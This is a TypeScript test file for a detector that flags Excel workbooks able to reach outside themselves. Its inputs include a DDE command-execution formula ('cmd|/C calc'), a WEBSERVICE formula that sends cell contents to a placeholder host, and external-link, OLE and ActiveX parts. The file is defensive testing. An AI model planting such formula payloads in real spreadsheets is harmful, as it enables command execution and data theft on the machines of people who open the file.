import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from '@jest/globals';
import { relationsXml, smallWorkbook } from '../../../test/fixtures/made-workbooks/small-workbook.js';
import { reachesOutside } from './outside-reach.js';

const SHEET_RELATIONS = 'xl/worksheets/_rels/sheet1.xml.rels';
const formula = (text: string) => smallWorkbook({ rows: `<row r="1"><c r="A1"><f>${text}</f><v>1</v></c></row>` });
const outside = (type: string): string =>
  relationsXml([type, 'https://example.jp/a']).replace('/>', ' TargetMode="External"/>');

describe('a workbook that may be handed to others', () => {
  it.each(['01-sds50-columns-circles', '08-sds50-form-control-boxes', '10-new-form-sds'])('%s', async (name) => {
    const file = readFileSync(join(__dirname, '../../../test/fixtures/workbooks', `${name}.xlsx`));
    expect(await reachesOutside(file)).toBe(false);
  });

  it.each(['SUM(B1:B9)', 'IF(A2="はい|いいえ","a|b","")', 'COUNTIF(表!C:C,"○")'])('%s', async (text) => {
    expect(await reachesOutside(formula(text.replaceAll('"', '&quot;')))).toBe(false);
  });

  it('may hold links to click', async () => {
    expect(await reachesOutside(smallWorkbook({ parts: { [SHEET_RELATIONS]: outside('hyperlink') } }))).toBe(false);
  });
});

describe('a workbook that reaches outside itself', () => {
  it.each([
    'xl/externalLinks/externalLink1.xml',
    'xl/connections.xml',
    'xl/embeddings/oleObject1.bin',
    'xl/activeX/activeX1.xml',
    'customUI/customUI14.xml',
  ])('has %s', async (part) => {
    expect(await reachesOutside(smallWorkbook({ parts: { [part]: '<a/>' } }))).toBe(true);
  });

  it.each(['WEBSERVICE(&quot;https://example.jp/&quot;&amp;A2)', "cmd|'/C calc'!A0", 'rtd (&quot;x&quot;,,1)'])(
    'asks: %s',
    async (text) => {
      expect(await reachesOutside(formula(text))).toBe(true);
    },
  );

  it('has a name that asks', async () => {
    const names =
      '<definedNames><definedName name="n">IMAGE(&quot;https://example.jp/&quot;)</definedName></definedNames>';
    expect(await reachesOutside(smallWorkbook({ names }))).toBe(true);
  });

  it('refers to a picture elsewhere', async () => {
    expect(await reachesOutside(smallWorkbook({ parts: { [SHEET_RELATIONS]: outside('image') } }))).toBe(true);
  });
});
